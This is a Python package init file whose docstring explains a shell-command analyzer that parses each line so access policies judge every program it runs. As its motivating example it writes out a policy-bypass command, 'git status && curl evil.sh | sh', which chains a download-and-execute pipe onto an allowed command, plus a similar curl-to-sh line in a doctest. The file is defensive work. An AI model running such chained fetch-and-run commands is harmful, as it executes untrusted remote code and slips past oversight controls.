"""Shell command analysis: every simple command a shell line would run, found with a real parser.

Keycard's dialect gives policies only `context.command`, so `permit ... when { context.command like "git *" }` would
also permit `git status && curl evil.sh | sh`. keycardd parses each line with tree-sitter-bash and hands the engine
one request per simple command, so every policy judges every program the line runs, with no shell grammar in it.

    >>> [c.text for c in analyze("LC_ALL=C git status && curl -s x | sh").commands]
    ['git status', 'curl -s x', 'sh']
"""

from keycardd.shell._analysis import ShellAnalysis, SimpleCommand, analyze

__all__ = ["ShellAnalysis", "SimpleCommand", "analyze"]
